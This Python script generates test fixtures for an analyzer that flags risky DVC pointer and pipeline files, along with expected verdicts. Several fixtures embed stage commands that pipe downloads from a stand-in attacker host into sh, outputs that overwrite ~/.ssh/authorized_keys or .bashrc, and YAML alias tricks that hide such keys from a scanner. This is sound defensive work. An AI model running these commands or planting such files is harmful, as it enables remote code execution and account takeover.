#!/usr/bin/python3
"""Writes samples/dvc/: DVC pointer files in the shape `dvc add` writes them (DVC 3: `outs` entries
with md5, size, hash: md5, path), for the dvc analyzer. DVC is not installed here, so the YAML is
written with PyYAML's safe dumper in the key order DVC uses.

- model.pkl.dvc: the pointer `dvc add model.pkl` writes: the model is fetched by `dvc pull` and was
  not scanned (suspicious, dvc/external-artifact naming the path and md5).
- data.dvc: a directory output (`.dir` md5, nfiles) with a `remote`: suspicious too.
- absolute.dvc: an output path `/home/user/.bashrc`: dvc checkout writes there (malicious).
- traversal.dvc: `../../.ssh/authorized_keys` (malicious).
- wdir-escape.dvc: a harmless path under `wdir: ../..` (malicious: the join climbs out).
- import.dvc: what `dvc import` writes (deps naming another repository): suspicious.
- notes.dvc: `.dvc`-named text that is not a mapping: DVC reads every `*.dvc` file and refuses it
  (invalid: a DVC-named file is DVC's, whatever its first bytes show).
- meta-only.dvc: a mapping with only `meta` (no outs, no cmd): a DVC file with nothing to fetch or
  run (clean).
- legacy-stage.dvc: the single-stage form `dvc run -f train.dvc` wrote (cmd, deps, outs): dvc repro
  runs its cmd, dvc pull fetches its output (suspicious, dvc/stage-command).
- late-pointer.dvc: the pointer of model.pkl.dvc after 20 KiB of comments: read whole, reported the same.
- no-path.dvc: an outs entry whose path is null: DVC refuses it (invalid).

Pipeline files (`dvc stage add` / `dvc repro` write them; the shapes follow DVC's dvc.yaml and
dvc.lock documentation), each in a folder of its own since DVC reads them by name:

- pipeline/dvc.yaml: a prepare and a train stage (cmd, deps, params, outs, a `cache: false` metrics
  file): the outputs dvc pull fetches are reported as not scanned, the commands dvc repro runs as
  evidence (suspicious).
- pipeline/dvc.lock: the lock `dvc repro` writes for it (schema 2.0, outs with md5/size/hash).
- lock-v1/dvc.lock: a schema 1 lock (stages at the top level): suspicious.
- foreach/dvc.yaml: a foreach stage whose outs and cmd sit under `do`: suspicious.
- risky-cmd/dvc.yaml: a stage whose cmd pipes a download into sh (medium: suspicious).
- traversal/dvc.yaml: a stage output `../../.ssh/authorized_keys` (malicious).
- metrics-only/dvc.yaml: top-level metrics and plots, no stages: nothing fetched or run (clean).
- bad-stages/dvc.yaml: `stages` is a list: DVC refuses it (invalid).
- late-stages/dvc.yaml: risky-cmd's stage after 20 KiB of comments: dvc repro runs it wherever it
  is, so it is reported the same (suspicious, medium command).

Files DVC's loader (ruamel's safe loader) reads in ways a key-by-key reading misses, written by hand
(PyYAML never writes these shapes):

- alias-keys/dvc.yaml: a stage whose `cmd` and `outs` keys are aliases of anchored scalars
  (`*c : curl … | sh`, an output `../../../home/user/.bashrc`): ruamel reads them as `cmd` and
  `outs` (malicious).
- alias-keys.dvc: the same in a single-stage `.dvc` file (malicious).
- omap/dvc.yaml: `stages: !!omap`: ruamel builds an ordered dict, which DVC takes as the stages
  mapping; its command is reported (suspicious, medium command).
- dvcfile/Dvcfile: DVC 1.x-2.x's single-stage file name, with a legacy stage whose output climbs
  out of the folder (malicious); dvcfile-benign/Dvcfile: the legacy stage `dvc run` wrote into a
  Dvcfile (suspicious, like legacy-stage.dvc).
- many-cmds/dvc.yaml: a stage whose 101st command pipes a download into sh: every command is
  judged (suspicious, medium command with that command as evidence).
- params-cmd/dvc.yaml: `cmd: ${run}`, the command taken from params.yaml (written beside it, not a
  DVC file): built from parameters not in the file (suspicious, medium, evidence interpolated).

Run from the repository root with /usr/bin/python3.
"""
import json
import os

import yaml

OUT = os.path.join("samples", "dvc")
expected = {}


def put(name, doc, verdict, rules=(), absent=(), evidence=None):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        if isinstance(doc, str):
            f.write(doc)
        else:
            yaml.safe_dump(doc, f, sort_keys=False)
    want = {"verdict": verdict}
    if rules:
        want["rules"] = list(rules)
    if absent:
        want["absentRules"] = list(absent)
    if evidence:
        want["evidence"] = evidence
    expected[f"dvc/{name}"] = want


MD5 = "3863d0e317dee0a55c4e59d2ec0eef33"
put("model.pkl.dvc", {"outs": [{"md5": MD5, "size": 2211, "hash": "md5", "path": "model.pkl"}]},
    "suspicious", rules=["dvc/external-artifact"], absent=["dvc/path-traversal"],
    evidence={"path": "model.pkl", "hash": MD5})
put("data.dvc", {"outs": [{"md5": "b6923e1e4ad16ea1a7e2a328842d56a2.dir", "size": 6049, "nfiles": 3,
                           "hash": "md5", "path": "data", "remote": "storage"}]},
    "suspicious", rules=["dvc/external-artifact"], absent=["dvc/path-traversal"])
put("absolute.dvc", {"outs": [{"md5": MD5, "size": 120, "hash": "md5", "path": "/home/user/.bashrc"}]},
    "malicious", rules=["dvc/path-traversal", "dvc/external-artifact"])
put("traversal.dvc", {"outs": [{"md5": MD5, "size": 120, "hash": "md5", "path": "../../.ssh/authorized_keys"}]},
    "malicious", rules=["dvc/path-traversal"])
put("wdir-escape.dvc", {"wdir": "../..", "outs": [{"md5": MD5, "size": 120, "hash": "md5", "path": "x.pkl"}]},
    "malicious", rules=["dvc/path-traversal"])
put("import.dvc", {"md5": "e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6", "frozen": True,
                   "deps": [{"path": "models/model.pkl",
                             "repo": {"url": "https://github.com/example/models",
                                      "rev_lock": "0123456789abcdef0123456789abcdef01234567"}}],
                   "outs": [{"md5": MD5, "size": 2211, "hash": "md5", "path": "model.pkl"}]},
    "suspicious", rules=["dvc/external-artifact"], evidence={"repo": "https://github.com/example/models"})
put("notes.dvc", "notes about the dvc remote\n", "invalid", rules=["dvc/malformed"], absent=["dvc/external-artifact"])
put("meta-only.dvc", {"meta": {"owner": "data-team", "note": "tracked in another repository"}}, "clean",
    absent=["dvc/external-artifact", "dvc/malformed"])
put("legacy-stage.dvc", {"md5": "e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6", "cmd": "python train.py",
                         "deps": [{"md5": MD5, "path": "train.py"}],
                         "outs": [{"md5": MD5, "path": "model.pkl", "cache": True}]},
    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"], absent=["dvc/malformed"])
COMMENTS = "# notes kept with the pointer\n" * 700
put("late-pointer.dvc", COMMENTS + yaml.safe_dump(
    {"outs": [{"md5": MD5, "size": 2211, "hash": "md5", "path": "model.pkl"}]}, sort_keys=False),
    "suspicious", rules=["dvc/external-artifact"], evidence={"path": "model.pkl", "hash": MD5})
put("no-path.dvc", {"outs": [{"md5": MD5, "size": 1, "path": None}]}, "invalid", rules=["dvc/malformed"])

# Pipeline files
put("pipeline/dvc.yaml", {"stages": {
    "prepare": {"cmd": "python src/prepare.py data/data.xml", "deps": ["data/data.xml", "src/prepare.py"],
                "params": ["prepare.seed", "prepare.split"], "outs": ["data/prepared"]},
    "train": {"cmd": "python src/train.py data/prepared model.pkl", "deps": ["data/prepared", "src/train.py"],
              "params": ["train.n_est"], "outs": ["model.pkl"],
              "metrics": [{"metrics.json": {"cache": False}}]}}},
    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"],
    absent=["dvc/path-traversal", "dvc/malformed"], evidence={"path": "model.pkl", "stage": "train"})
put("pipeline/dvc.lock", {"schema": "2.0", "stages": {
    "prepare": {"cmd": "python src/prepare.py data/data.xml",
                "deps": [{"path": "data/data.xml", "hash": "md5", "md5": "22a1a2931c8370d3aeedd7183606fd7f",
                          "size": 14445097}],
                "outs": [{"path": "data/prepared", "hash": "md5", "md5": "153aad06d376b6595932470e459ef42a.dir",
                          "size": 8437363, "nfiles": 2}]},
    "train": {"cmd": "python src/train.py data/prepared model.pkl",
              "deps": [{"path": "data/prepared", "hash": "md5", "md5": "153aad06d376b6595932470e459ef42a.dir",
                        "size": 8437363, "nfiles": 2}],
              "outs": [{"path": "model.pkl", "hash": "md5", "md5": MD5, "size": 2211}]}}},
    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], absent=["dvc/path-traversal"],
    evidence={"path": "model.pkl", "hash": MD5, "stage": "train"})
put("lock-v1/dvc.lock", {"train": {"cmd": "python train.py", "deps": [{"path": "train.py", "md5": MD5}],
                                   "outs": [{"path": "model.pkl", "md5": MD5}]}},
    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], evidence={"path": "model.pkl"})
put("foreach/dvc.yaml", {"stages": {"build": {
    "foreach": ["us", "uk"], "do": {"cmd": "python train.py ${item}", "outs": ["model-${item}.pkl"]}}}},
    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], evidence={"path": "model-${item}.pkl"})
put("risky-cmd/dvc.yaml", {"stages": {"setup": {
    "cmd": "curl -fsSL https://attacker.example/setup.sh | sh", "outs": ["model.pkl"]}}},
    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"])
put("traversal/dvc.yaml", {"stages": {"train": {"cmd": "python train.py",
                                                 "outs": ["../../.ssh/authorized_keys"]}}},
    "malicious", rules=["dvc/path-traversal"])
put("metrics-only/dvc.yaml", {"metrics": ["metrics.json"], "plots": ["plots.csv"]}, "clean",
    absent=["dvc/external-artifact", "dvc/malformed"])
put("bad-stages/dvc.yaml", {"stages": [{"cmd": "python train.py"}]}, "invalid", rules=["dvc/malformed"])
put("late-stages/dvc.yaml", COMMENTS + yaml.safe_dump({"stages": {"setup": {
    "cmd": "curl -fsSL https://attacker.example/setup.sh | sh", "outs": ["model.pkl"]}}}, sort_keys=False),
    "suspicious", rules=["dvc/stage-command", "dvc/external-artifact"], evidence={"stage": "setup"})

put("alias-keys/dvc.yaml", "vars:\n  - k: &c cmd\n  - o: &o outs\nstages:\n  train:\n"
    "    *c : curl -s https://attacker.example/x.sh | sh\n    *o :\n      - ../../../home/user/.bashrc\n",
    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"], absent=["dvc/malformed"],
    evidence={"cmd": "curl -s https://attacker.example/x.sh | sh"})
put("alias-keys.dvc", "meta: {a: &c cmd, b: &o outs}\n*c : curl -s https://attacker.example/x.sh | sh\n*o :\n"
    f"- path: ../../../home/user/.bashrc\n  md5: {MD5}\n",
    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"], absent=["dvc/malformed"],
    evidence={"path": "../../../home/user/.bashrc"})
put("omap/dvc.yaml", "stages: !!omap\n  - setup:\n      cmd: curl -fsSL https://attacker.example/setup.sh | sh\n",
    "suspicious", rules=["dvc/stage-command"], absent=["dvc/malformed"], evidence={"stage": "setup"})
put("dvcfile/Dvcfile", {"cmd": "python train.py", "outs": [{"md5": MD5, "path": "../../.ssh/authorized_keys"}]},
    "malicious", rules=["dvc/path-traversal", "dvc/stage-command"])
put("dvcfile-benign/Dvcfile", {"md5": "fd75c91bb60baf9bf36e4f64f0c1c7e0", "cmd": "python train.py",
                               "deps": [{"md5": MD5, "path": "train.py"}],
                               "outs": [{"md5": MD5, "path": "model.pkl", "cache": True}]},
    "suspicious", rules=["dvc/external-artifact", "dvc/stage-command"], absent=["dvc/path-traversal"])
put("many-cmds/dvc.yaml", {"stages": {"train": {
    "cmd": ["python step.py"] * 100 + ["curl -fsSL https://attacker.example/setup.sh | sh"]}}},
    "suspicious", rules=["dvc/stage-command"], evidence={"cmd": "curl -fsSL https://attacker.example/setup.sh | sh"})
put("params-cmd/dvc.yaml", {"stages": {"train": {"cmd": "${run}"}}},
    "suspicious", rules=["dvc/stage-command"], evidence={"interpolated": True})
with open(os.path.join(OUT, "params-cmd", "params.yaml"), "w") as f:
    yaml.safe_dump({"run": "curl -fsSL https://attacker.example/setup.sh | sh"}, f)
with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
